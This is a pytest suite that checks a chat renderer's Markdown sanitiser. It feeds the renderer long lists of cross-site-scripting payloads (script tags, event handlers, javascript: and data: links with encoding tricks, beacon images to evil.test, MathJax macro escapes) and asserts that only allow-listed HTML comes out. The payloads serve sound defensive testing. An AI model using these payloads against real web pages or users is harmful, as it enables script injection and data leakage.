"""Hostile Markdown: whatever it tries, only listed tags, attributes and addresses come out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from nbchat.render import IncrementalMarkdown, answer_html, render_markdown

from .streams import ANSWER

ADDRESS = re.compile(r"(?:https?://|mailto:)[^\s\x00-\x20]+", re.IGNORECASE)
PICTURE = re.compile(r"data:image/(?:png|gif|jpeg|webp);base64,[A-Za-z0-9+/]+=*")
ANY = re.compile(r".*", re.DOTALL)

BARE_TAGS = [
    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr", "br", "ul"),
    *("strong", "em", "s", "sup", "table", "thead", "tbody", "tr"),
]
ALIGNED = {"style": re.compile(r"text-align:(?:left|right|center)")}
TAGS: dict[str, dict[str, re.Pattern[str]]] = {
    **{tag: {} for tag in BARE_TAGS},
    "th": ALIGNED,
    "td": ALIGNED,
    "a": {
        "href": ADDRESS,
        "title": ANY,
        "class": re.compile("nbchat-image"),
        "rel": re.compile("noopener noreferrer nofollow"),
        "target": re.compile("_blank"),
    },
    "img": {
        "src": PICTURE,
        "alt": ANY,
        "title": ANY,
        "loading": re.compile("lazy"),
        "referrerpolicy": re.compile("no-referrer"),
    },
    "li": {"class": re.compile("nbchat-todo")},
    "ol": {"start": re.compile(r"\d{1,9}")},
    "pre": {"class": re.compile("nbchat-math")},
    "code": {"class": re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")},
    "div": {"class": re.compile("highlight|nbchat(?:-[a-z]+)?")},
    "span": {
        "class": re.compile("nbchat-(?:math|link|refused|image|task)|[a-z][a-z0-9]{0,2}"),
        "title": ANY,
        "role": re.compile("img"),
        "aria-label": re.compile("done|to do"),
    },
}


class _Inspector(HTMLParser):
    """Collects what is not on the list, and the text as a reader gets it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.violations: list[str] = []
        self.prose: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        allowed = TAGS.get(tag)
        if allowed is None:
            self.violations.append(f"<{tag}>")
            return
        for name, value in attrs:
            pattern = allowed.get(name)
            if pattern is None or value is None or not pattern.fullmatch(value):
                self.violations.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and {"rel", "target", "href"} - {name for name, _ in attrs}:
            self.violations.append("<a> without its attributes")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.violations.append(f"</{tag}> out of place")

    def handle_data(self, data: str) -> None:
        self.prose.append(data)

    def handle_comment(self, data: str) -> None:
        self.violations.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.violations.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.violations.append("a processing instruction")


def violations(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.violations + [f"<{tag}> stays open" for tag in inspector.open]


TEXT = [
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import url(//evil.test)</style>",
    "</style><script>alert(1)</script>",
    "</div></div><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<?php echo 1 ?><![CDATA[x]]><!DOCTYPE x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<form action=//evil.test><input name=x><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test>",
    "<link rel=stylesheet href=//evil.test>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "**<b onclick=alert(1)>x</b>** `</code><script>alert(1)</script>`",
    "\0<scr\0ipt>alert(1)</script>",
    "x\u2028<script>alert(1)</script>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](vscode://ms-python.python/run)",
    "[x](blob:http://localhost/1)",
    "[x](//evil.test/a)",
    "[x](/api/contents/secret)",
    "[x](\\\\evil.test\\share)",
    "[x](../../tree?token=)",
    "[x](#top)",
    "[x](?a=b)",
    "[x](http:evil.test)",
    "[x](https:///evil.test)",
    "[x](http://\\evil.test)",
    "[x](filesystem:http://a/b)",
    "[x](view-source:http://a)",
    "[x](ms-msdt:/id)",
    '[x](http://a.b "\\" onmouseover=alert(1) x=\\"")',
    "[x](http://a.b/\"onmouseover='alert(1)')",
    "[x](<http://a.b/><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<vscode:open>",
    '<http://a.b/"onclick=alert(1)>',
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <data:text/html,<b>> 'title\" onclick=\"a'",
    "[![x](http://a.b/c.png)](javascript:alert(1))",
    "[a <http://b.c> d](http://e.f)",
    "[a http://b.c d](http://e.f)",
    'https://a.b/"onmouseover=alert(1)',
    "https://a.b/'><script>alert(1)</script>",
    "xhttps://a.b javascript:alert(1) data:text/html,x",
]
IMAGES = [
    "![x](http://evil.test/beacon.gif?secret)",
    "![x](//evil.test/beacon.gif)",
    "![x](/api/kernels)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](data:image/png;base64,AAAA"onerror=alert(1))',
    "![x](data:image/png,<svg onload=alert(1)>)",
    "![x](data:text/html;base64,AAAA)",
    '![" onerror="alert(1)](data:image/png;base64,AAAA)',
    '![x](data:image/gif;base64,AAAA "\\" onload=\\"alert(1)")',
    "![<script>alert(1)</script>](http://a.b/c.png)",
    "![x]\n\n[x]: http://evil.test/beacon.gif",
    "![a ![b](http://c.d/e) [f](javascript:g)](http://h.i/j)",
    "[![x](http://a.b/c.png)](http://d.e)",
]
FENCES = [
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "```&quot;onclick=alert(1)\nx\n```",
    "~~~ `'\"<>\nx\n~~~",
    "```" + "a" * 500 + "\nx\n```",
    "```../../../etc/passwd\nx\n```",
    "```__class__\nx\n```",
    "    <script>alert(1)</script>",
]
MATH = [
    "$\\href{javascript:alert(1)}{x}$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[\\url{javascript:alert(1)}\\]",
    "$$\n\\require{html}\\style{background:url(//evil.test)}{x}\n$$",
    "$\\class{x}{y} \\cssId{z}{w}$",
    "$\\bbox[background:url(//evil.test)]{x}$",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    "$\\def\\frac#1{\\frac{#1}}\\frac1$",
    "$\\newcommand{\\x}{\\x}\\x$",
    "$\\csname href\\endcsname{javascript:alert(1)}{x}$",
    "$\\unicode{<script>}$",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "\\begin{align}\\href{javascript:alert(1)}{x}\\end{align}",
    "$ \\) \\href{javascript:alert(1)}{x} \\( $",
    "a $x \\) \\[\\href{javascript:alert(1)}{y}\\]$",
    "price $5 \\href{javascript:alert(1)}{x} 6$",
    "\\ref{x} \\eqref{y} \\begin{foo}\\href{javascript:alert(1)}{x}\\end{foo}",
    "\\\\(\\href{javascript:alert(1)}{x}\\\\)",
    "<b>$</b>\\href{javascript:alert(1)}{x}<b>$</b>",
]
TABLES = [
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-"onclick=alert(1)-:|\n| b |',
    "| [x](javascript:alert(1)) |\n|:-:|\n| ![y](//evil.test) |",
    "| a\n|-\n| `</td><script>` | $</td><script>$ |",
    '[^<script>]: x\n\n[^"onclick=alert(1)]: y\n\nz[^<script>]',
    "- [ ] <script>alert(1)</script>\n- [x]\n  <b>",
]
PAYLOADS = [*TEXT, *LINKS, *IMAGES, *FENCES, *MATH, *TABLES]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_listed_elements_come_out(payload: str) -> None:
    for text in (payload, f"> {payload}", f"- **{payload}", f"a {payload} b", ANSWER + payload):
        assert violations(render_markdown(text)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_listed_elements_come_out_at_every_moment(payload: str) -> None:
    md = IncrementalMarkdown()
    for character in payload:
        md.feed(character)
        update = md.tick()
        assert violations(md.html + update.tail) == []


@pytest.mark.parametrize("payload", [*LINKS, *IMAGES])
def test_a_refused_address_is_no_attribute_but_a_hint(payload: str) -> None:
    html = render_markdown(payload)
    assert not re.search(r'(?:href|src)="(?!https?://|mailto:|data:image/)', html)


@pytest.mark.parametrize("payload", MATH)
def test_mathjax_finds_no_macro_that_reaches_beyond_typesetting(payload: str) -> None:
    html = render_markdown(payload)
    seen = re.sub(r"<(pre|code)\b.*?</\1>", "", html, flags=re.DOTALL)  # MathJax skips these
    assert not re.search(
        r"\\(?:href|url|require|style|class|cssId|bbox|mmlToken|def|newcommand|csname|unicode|ref)",
        seen,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_plain_text_around_an_answer_is_escaped(payload: str) -> None:
    html = answer_html("", notices=[payload], footer=payload)
    without_style = re.sub(r"<style>.*?</style>", "", html, count=1, flags=re.DOTALL)
    assert violations(without_style) == []
    assert not re.search(r"\\(?=\w|\(|\[)", without_style)


def test_the_inspector_sees_what_it_should() -> None:
    for html in ["<script>", '<p onclick="x">a</p>', '<a href="//x">a</a>', "<p>", "</p>"]:
        assert violations(html)
